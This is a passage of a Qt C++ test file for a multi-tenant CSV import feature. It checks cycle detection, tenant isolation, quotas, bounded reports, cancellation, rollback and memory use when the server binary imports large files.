    // C inside B inside A: fine.
    auto tree = import(SyncService::Parts, QStringLiteral("external_id,external_source,parent_part_id\nCB,erp,%1\nCC,erp,%2\n").arg(a, b).toUtf8());
    ERY_VERIFY_OK(tree);
    QVERIFY(tree->committed);
    const qint64 outbox = m_shop->outboxCount();
    // A inside C closes the loop A > B > C > A; a part inside itself too.
    auto loop = import(SyncService::Parts, QStringLiteral("external_id,external_source,parent_part_id\nCA,erp,%1\nCB,erp,%2\n").arg(c, b).toUtf8());
    ERY_VERIFY_OK(loop);
    QVERIFY(!loop->committed);
    QCOMPARE(loop->failed, 2);
    QCOMPARE(loop->rows[0].line, 2);
    for (const auto &row : loop->rows) {
        const QString message = str(row.errors[0], "message");
        QCOMPARE(str(row.errors[0], "column"), QStringLiteral("parent_part_id"));
        QVERIFY2(message.contains("cycle") || message.contains("itself"), qPrintable(message));
    }
    QCOMPARE(m_shop->outboxCount(), outbox);
    QVERIFY(m_shop->db().query("SELECT parent_part_id FROM parts WHERE id = ?", {a})->front()["parent_part_id"].is_null());
}

void TestCsvImport::tenantsStayApart()
{
    // Another tenant's job with the same external key is not this tenant's.
    auto other = m_shop->s().tenants.create(Json{{"name", "Other"}});
    const Scope b = Scope::of(str(other->live, "id"));
    ERY_VERIFY_OK(import(SyncService::Jobs, "external_id,external_source,job_number\nJ1,erp,B-1\n", {}, &b));
    auto parts = import(SyncService::Parts, "external_id,external_source,part_number,job_external_id,material\nP1,erp,P-1,J1,S235\n");
    ERY_VERIFY_OK(parts);
    QCOMPARE(parts->failed, 1);
    QCOMPARE(str(parts->rows[0].errors[0], "column"), QStringLiteral("job_external_id"));
    // And the same key in this tenant creates a job of its own, leaving B's alone.
    ERY_VERIFY_OK(import(SyncService::Jobs, "external_id,external_source,job_number\nJ1,erp,A-1\n"));
    QCOMPARE(str(*m_shop->s().jobs.byNumber(b, "B-1"), "external_id"), QStringLiteral("J1"));
    QCOMPARE(count("jobs", "external_id = 'J1'"), qint64(2));
    // Another tenant's part by our id is not found either.
    const QString theirJob = str(*m_shop->s().jobs.byNumber(b, "B-1"), "id");
    const QString theirPart =
        str(*m_shop->s().parts.create(b, Json{{"job_id", toStd(theirJob)}, {"part_number", "B-P"}, {"material", "x"}}), "id");
    auto cross = import(SyncService::Parts, QStringLiteral("external_id,external_source,part_number,job_external_id,material,parent_part_id\n"
                                                           "P2,erp,P-2,J1,S235,%1\n")
                                                .arg(theirPart)
                                                .toUtf8());
    ERY_VERIFY_OK(cross);
    QCOMPARE(cross->failed, 1);
    QCOMPARE(count("parts", "part_number = 'P-2'"), qint64(0));
}

void TestCsvImport::quotaHoldsPerRow()
{
    // Two open jobs allowed: the seed's J-100 and one more. The file's second row is over.
    ERY_VERIFY_OK(m_shop->s().tenants.update(m_shop->tenantId, Json{{"max_jobs", 2}}));
    CsvImport::Options skip;
    skip.skipBadRows = true;
    auto r = import(SyncService::Jobs, "external_id,external_source,job_number\nQ1,erp,Q-1\nQ2,erp,Q-2\n", skip);
    ERY_VERIFY_OK(r);
    QCOMPARE(r->created, 1);
    QCOMPARE(r->failed, 1);
    QCOMPARE(str(r->rows[1].errors[0], "code"), QStringLiteral("QUOTA_EXCEEDED"));
}

Result<CsvImport::Report> TestCsvImport::importInSteps(const QByteArray &csv, CsvImport::Options o, const std::function<void()> &between)
{
    QObject context;
    std::optional<Result<CsvImport::Report>> outcome;
    QEventLoop loop;
    CsvImport::start(m_shop->s(), &context, m_shop->scope, SyncService::Jobs, csv, o, [&](Result<CsvImport::Report> r) {
        outcome = std::move(r);
        loop.quit();
    });
    QTimer tick;
    QObject::connect(&tick, &QTimer::timeout, between);
    tick.start(2);
    QTimer::singleShot(120000, &loop, &QEventLoop::quit);
    loop.exec();
    if (!outcome)
        return Error::internal(QStringLiteral("the import did not end"));
    return std::move(*outcome);
}

QByteArray TestCsvImport::jobsFile(const QString &prefix, int rows)
{
    QByteArray csv = "external_id,external_source,job_number,customer\n";
    for (int i = 0; i < rows; ++i)
        csv += QStringLiteral("%1%2,erp,%1-%2,Customer %3\n").arg(prefix).arg(i).arg(i % 7).toUtf8();
    return csv;
}

void TestCsvImport::reportStaysBounded()
{
    // Every row is counted; the report lists the bad ones, the first created or updated ones and a
    // few unchanged ones, whatever their place in the file, so a large file gives a small answer.
    const int rows = CsvImport::kListedChanges + 1500;
    const QByteArray file = jobsFile(QStringLiteral("R"), rows);
    auto first = import(SyncService::Jobs, file);
    ERY_VERIFY_OK(first);
    QCOMPARE(first->created, rows);
    const Json created = first->toJson();
    QCOMPARE(int(created["rows"].size()), CsvImport::kListedChanges);
    QCOMPARE(num(created, "rows_not_listed"), qint64(rows - CsvImport::kListedChanges));
    for (const Json &row : created["rows"])
        QVERIFY(!str(row, "id").isEmpty());

    // Two rows change and one turns bad: those are listed wherever they are.
    QByteArray again = file;
    again.replace("R2400,erp,R-2400,Customer 6", "R2400,erp,R-2400,Customer changed");
    again.replace("R2401,erp,R-2401,Customer 0", "R2401,erp,R-0,Customer 0"); // R0's number
    again.replace("R2499,erp,R-2499,Customer 0", "R2499,erp,R-2499,Customer new");
    CsvImport::Options skip;
    skip.skipBadRows = true;
    auto second = import(SyncService::Jobs, again, skip);
    ERY_VERIFY_OK(second);
    QCOMPARE(second->unchanged, rows - 3);
    QCOMPARE(second->updated, 2);
    QCOMPARE(second->failed, 1);
    const Json report = second->toJson();
    QCOMPARE(int(report["rows"].size()), CsvImport::kListedUnchanged + 3);
    QCOMPARE(num(report, "rows_not_listed"), qint64(rows - 3 - CsvImport::kListedUnchanged));
    QStringList listed;
    for (const Json &row : report["rows"])
        if (str(row, "action") != QLatin1String("unchanged"))
            listed << QStringLiteral("%1:%2").arg(str(row, "external_id"), str(row, "action"));
    QCOMPARE(listed, (QStringList{"R2400:update", "R2401:error", "R2499:update"}));
    QCOMPARE(int(second->toJson(true)["rows"].size()), 1);
    QVERIFY(report.dump().size() < 100 * 1024);

    // A file of nothing but bad rows lists the first kListedErrors of them.
    QByteArray bad = "external_id,external_source,job_number,due_date\n";
    for (int i = 0; i < CsvImport::kListedErrors + 300; ++i)
        bad += "B" + QByteArray::number(i) + ",erp,B-" + QByteArray::number(i) + ",never\n";
    auto refused = import(SyncService::Jobs, bad);
    ERY_VERIFY_OK(refused);
    QCOMPARE(refused->failed, CsvImport::kListedErrors + 300);
    QCOMPARE(int(refused->rows.size()), CsvImport::kListedErrors);
    QCOMPARE(refused->notListed, qint64(300));
}

void TestCsvImport::progressAndCancel()
{
    const QByteArray file = jobsFile(QStringLiteral("P"), 2500);
    std::vector<CsvImport::Progress> told;
    CsvImport::Options o;
    o.progress = [&](const CsvImport::Progress &p) { told.push_back(p); };
    auto r = import(SyncService::Jobs, file, o);
    ERY_VERIFY_OK(r);
    QCOMPARE(told.size(), size_t(3));
    QCOMPARE(told[0].rows, qint64(1000));
    QCOMPARE(told[1].rows, qint64(2000));
    QVERIFY(told[0].bytesRead > 0 && told[0].bytesRead <= told[1].bytesRead);
    QCOMPARE(told[2].rows, qint64(2500));
    QCOMPARE(told[2].bytesRead, qint64(file.size()));
    QCOMPARE(told[2].bytesTotal, qint64(file.size()));

    // Cancelled half-way (as the desktop's wizard does from its Cancel button): nothing written.
    const qint64 outbox = m_shop->outboxCount();
    bool cancel = false;
    CsvImport::Options c;
    c.progress = [&](const CsvImport::Progress &p) { cancel = cancel || p.rows >= 1000; };
    c.cancelled = [&] { return cancel; };
    auto cancelled = import(SyncService::Jobs, jobsFile(QStringLiteral("Q"), 2500), c);
    ERY_VERIFY_OK(cancelled);
    QVERIFY(cancelled->cancelled);
    QVERIFY(!cancelled->committed);
    QCOMPARE(cancelled->total, 1000);
    QVERIFY(cancelled->toJson()["cancelled"] == Json(true));
    QCOMPARE(count("jobs", "job_number LIKE 'Q-%'"), qint64(0));
    QCOMPARE(count("sync_imports"), qint64(1));
    QCOMPARE(m_shop->outboxCount(), outbox);
    QVERIFY(!m_shop->db().writeHeld());
}

void TestCsvImport::stepsLeaveTheThreadFree()
{
    const int rows = 3000;
    const qint64 outboxBefore = m_shop->outboxCount();
    int ticksHeld = 0, refused = 0;
    qint64 longestGapMs = 0;
    QElapsedTimer gap;
    gap.start();
    QObject waiter;
    bool waited = false;
    auto r = importInSteps(jobsFile(QStringLiteral("S"), rows), {}, [&] {
        longestGapMs = std::max(longestGapMs, gap.restart());
        if (!m_shop->db().writeHeld())
            return;
        ++ticksHeld;
        // Reads beside the held write see what was committed: none of the file yet.
        QCOMPARE(count("jobs", "job_number LIKE 'S-%'"), qint64(0));
        QCOMPARE(m_shop->outboxCount(), outboxBefore);
        // A write cannot join it (its rollback would take the write along): refused, or queued.
        if (refused == 0) {
            ERY_VERIFY_ERR(m_shop->s().jobs.create(m_shop->scope, Json{{"job_number", "SIDE-1"}}), ErrorCode::ServiceUnavailable);
            ++refused;
            m_shop->db().whenWritable(&waiter, [&] {
                waited = true;
                QVERIFY(!m_shop->db().writeHeld());
                QVERIFY(m_shop->s().jobs.create(m_shop->scope, Json{{"job_number", "SIDE-1"}}));
            });
        }
    });
    ERY_VERIFY_OK(r);
    QVERIFY(r->committed);
    QCOMPARE(r->created, rows);
    QVERIFY2(ticksHeld >= 2, qPrintable(QStringLiteral("the thread was free %1 times during the import").arg(ticksHeld)));
    QVERIFY2(longestGapMs < 1000, qPrintable(QStringLiteral("the thread was busy for %1 ms at a stretch").arg(longestGapMs)));
    QVERIFY(!m_shop->db().writeHeld());
    QCOMPARE(count("jobs", "job_number LIKE 'S-%'"), qint64(rows));
    QCOMPARE(m_shop->eventCount("import.completed"), qint64(1));
    QTRY_VERIFY(waited);
    QCOMPARE(count("jobs", "job_number = 'SIDE-1'"), qint64(1));
    // Its events follow the import's: written once the file was in.
    auto order = m_shop->db().query(
        QStringLiteral("SELECT topic, entity_id FROM outbox WHERE kind = 'event' AND topic IN ('job.created', 'import.completed') "
                       "ORDER BY id DESC LIMIT 2"));
    ERY_VERIFY_OK(order);
    QCOMPARE(str(order->at(1), "topic"), QStringLiteral("import.completed"));
    QCOMPARE(str(order->at(0), "topic"), QStringLiteral("job.created"));
    QCOMPARE(m_shop->eventCount("job.created"), qint64(1 + rows + 1));
    // The import's events are in the outbox in the order of the file.
    auto created = m_shop->db().query(QStringLiteral("SELECT payload FROM outbox WHERE kind = 'event' AND topic = 'job.created' ORDER BY id"));
    ERY_VERIFY_OK(created);
    int next = 0;
    for (const Row &row : *created) {
        const QString number = str(row["payload"]["data"], "job_number");
        if (number.startsWith(QLatin1String("S-"))) {
            QCOMPARE(number, QStringLiteral("S-%1").arg(next));
            ++next;
        }
    }
    QCOMPARE(next, rows);
}

void TestCsvImport::stepsAllOrNothing()
{
    // A bad row at the very end: every step before it is taken back, and nothing was announced.
    const int rows = 3000;
    QByteArray file = jobsFile(QStringLiteral("N"), rows);
    file += "N-bad,erp,,Nobody\n";
    const qint64 outboxBefore = m_shop->outboxCount();
    int ticksHeld = 0;
    auto r = importInSteps(file, {}, [&] { ticksHeld += m_shop->db().writeHeld() ? 1 : 0; });
    ERY_VERIFY_OK(r);
    QVERIFY(!r->committed);
    QCOMPARE(r->failed, 1);
    QCOMPARE(r->rows.back().line, rows + 2);
    QVERIFY(ticksHeld >= 2);
    QCOMPARE(count("jobs", "job_number LIKE 'N-%'"), qint64(0));
    QCOMPARE(m_shop->outboxCount(), outboxBefore);
    QCOMPARE(count("sync_imports"), qint64(0));
    // And a dry run in steps reports the same as one at once.
    CsvImport::Options dry;
    dry.dryRun = true;
    auto rehearsal = importInSteps(jobsFile(QStringLiteral("D"), rows), dry, [] {});
    ERY_VERIFY_OK(rehearsal);
    QCOMPARE(rehearsal->created, rows);
    QCOMPARE(count("jobs", "job_number LIKE 'D-%'"), qint64(0));
    QCOMPARE(m_shop->outboxCount(), outboxBefore);
}

void TestCsvImport::cancelInSteps()
{
    // The desktop's wizard cancels while the import runs in steps: its held transaction is rolled
    // back, nothing was written or announced, and the done callback says so.
    const qint64 outbox = m_shop->outboxCount();
    std::atomic<bool> cancel{false};
    CsvImport::Options o;
    o.cancelled = [&] { return cancel.load(); };
    qint64 doneRows = 0;
    o.progress = [&](const CsvImport::Progress &p) { doneRows = p.rows; };
    auto r = importInSteps(jobsFile(QStringLiteral("C"), 20000), o, [&] {
        if (m_shop->db().writeHeld() && doneRows >= 1000)
            cancel = true;
    });
    ERY_VERIFY_OK(r);
    QVERIFY(r->cancelled);
    QVERIFY(!r->committed);
    QVERIFY2(r->total >= 1000 && r->total < 20000, qPrintable(QString::number(r->total)));
    QVERIFY(!m_shop->db().writeHeld());
    QCOMPARE(count("jobs", "job_number LIKE 'C-%'"), qint64(0));
    QCOMPARE(count("sync_imports"), qint64(0));
    QCOMPARE(m_shop->outboxCount(), outbox);
    ERY_VERIFY_OK(m_shop->s().jobs.create(m_shop->scope, Json{{"job_number", "AFTER-CANCEL"}}));
}

void TestCsvImport::abandonedImportRollsBack()
{
    // The caller goes away mid-file (the API server shutting down): the held write is rolled back.
    auto context = std::make_unique<QObject>();
    bool called = false;
    CsvImport::start(m_shop->s(), context.get(), m_shop->scope, SyncService::Jobs, jobsFile(QStringLiteral("A"), 20000), {},
                     [&](Result<CsvImport::Report>) { called = true; });
    QTRY_VERIFY_WITH_TIMEOUT(m_shop->db().writeHeld(), 30000);
    QTest::qWait(20);
    context.reset();
    QVERIFY(!m_shop->db().writeHeld());
    QTest::qWait(50);
    QVERIFY(!called);
    QCOMPARE(count("jobs", "job_number LIKE 'A-%'"), qint64(0));
    ERY_VERIFY_OK(m_shop->s().jobs.create(m_shop->scope, Json{{"job_number", "AFTER-1"}}));
}

namespace {

struct Measured {
    int code = -1;
    qint64 peakKb = 0; // the child's peak resident memory (ru_maxrss)
    QByteArray out, err;
};

// Runs a program as a child of this process alone and reads its peak resident memory as the
// kernel counted it (wait4), so no other child of the test is mixed in.
Measured runMeasured(const QString &program, const QStringList &args, const QString &outDir)
{
    Measured m;
    const QByteArray outPath = QFile::encodeName(outDir + QStringLiteral("/child.out"));
    const QByteArray errPath = QFile::encodeName(outDir + QStringLiteral("/child.err"));
    std::vector<QByteArray> store{QFile::encodeName(program)};
    for (const QString &a : args)
        store.push_back(a.toUtf8());
    std::vector<char *> argv;
    for (QByteArray &a : store)
        argv.push_back(a.data());
    argv.push_back(nullptr);
    const int outFd = ::open(outPath.constData(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    const int errFd = ::open(errPath.constData(), O_WRONLY | O_CREAT | O_TRUNC, 0600);
    const pid_t pid = ::fork();
    if (pid == 0) {
        ::dup2(outFd, 1);
        ::dup2(errFd, 2);
        ::execv(argv[0], argv.data());
        ::_exit(127);
    }
    ::close(outFd);
    ::close(errFd);
    int status = 0;
    struct rusage ru {};
    if (pid > 0 && ::wait4(pid, &status, 0, &ru) == pid && WIFEXITED(status))
        m.code = WEXITSTATUS(status);
    m.peakKb = ru.ru_maxrss;
    QFile o(QString::fromLocal8Bit(outPath)), e(QString::fromLocal8Bit(errPath));
    if (o.open(QIODevice::ReadOnly))
        m.out = o.readAll();
    if (e.open(QIODevice::ReadOnly))
        m.err = e.readAll();
    return m;
}

// A jobs file of about `mb` MiB: real fields plus a wide column the entity does not take (a
// drawing's text, say), so its bytes are read and parsed but cost the database little.
QString writeWideFile(const QString &path, const QString &prefix, int mb)
{
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly))
        return {};
    f.write("external_id,external_source,job_number,customer,drawing_text\n");
    const QByteArray filler(1900, 'x');
    qint64 written = 0;
    for (int i = 0; written < qint64(mb) << 20; ++i) {
        const QByteArray row = prefix.toUtf8() + QByteArray::number(i) + ",erp," + prefix.toUtf8() + "-" + QByteArray::number(i) +
                               ",Customer " + QByteArray::number(i % 97) + "," + filler + "\n";
        f.write(row);
        written += row.size();
    }
    return path;
}

} // namespace

void TestCsvImport::largeFileMemoryStaysBounded()
{
    // eryxon-server import reads the file as it imports it: its peak memory is the same for a file
    // four times as large, and stays within a few tens of MiB of the command's own (a `status`).
    // The benchmark (bench/import) runs the same with 200 MB.
    const QString bin = qEnvironmentVariable("ERYXON_BIN_DIR") + QStringLiteral("/app/server/eryxon-server");
    QVERIFY2(QFile::exists(bin), qPrintable(bin));
    QTemporaryDir dir;
    // On SQLite the smaller file is large enough to fill the writing connection's page cache
    // (cache_size, 32 MiB), which any file of some size does: from there on the peak is flat.
    const int smallMb = TestShop::postgres() ? 4 : 20, largeMb = 4 * smallMb;
    const QString small = writeWideFile(dir.filePath("small.csv"), QStringLiteral("SM"), smallMb);
    const QString large = writeWideFile(dir.filePath("large.csv"), QStringLiteral("LG"), largeMb);
    ERY_VERIFY_OK(m_shop->s().tenants.create(Json{{"name", "Big Shop"}, {"plan", "enterprise"}}));
    const QStringList db{"--db", m_shop->url(), "--tenant", "Big Shop"};

    const Measured idle = runMeasured(bin, QStringList{"status"} + db.mid(0, 2), dir.path());
    QCOMPARE(idle.code, 0);
    const Measured first = runMeasured(bin, QStringList{"import", "jobs", small} + db, dir.path());
    QVERIFY2(first.code == 0, first.err.right(500).constData());
    QElapsedTimer t;
    t.start();
    const Measured second = runMeasured(bin, QStringList{"import", "jobs", large} + db, dir.path());
    QVERIFY2(second.code == 0, second.err.right(500).constData());
    const qint64 largeMs = t.elapsed();
    const qint64 rows = count("jobs", "job_number LIKE 'LG-%'");
    QVERIFY2(second.out.contains(QByteArray::number(rows) + " created"), second.out.constData());
    qInfo("peak RSS: status %lld KiB; import of %d MiB %lld KiB; of %d MiB (%lld rows, %lld ms) %lld KiB", idle.peakKb, smallMb,
          first.peakKb, largeMb, rows, largeMs, second.peakKb);
    // The larger file needs no more memory than the smaller one (plus noise), and neither much more
    // than the command itself: the file, its rows and their events are never all in memory.
    QVERIFY2(second.peakKb - first.peakKb < 8 * 1024,
             qPrintable(QStringLiteral("%1 KiB for %2 MiB, %3 KiB for %4 MiB").arg(first.peakKb).arg(smallMb).arg(second.peakKb).arg(largeMb)));
    QVERIFY2(second.peakKb - idle.peakKb < 64 * 1024,
             qPrintable(QStringLiteral("%1 KiB over the command's own %2 KiB").arg(second.peakKb - idle.peakKb).arg(idle.peakKb)));
}

QTEST_GUILESS_MAIN(TestCsvImport)
#include "tst_csvimport.moc"
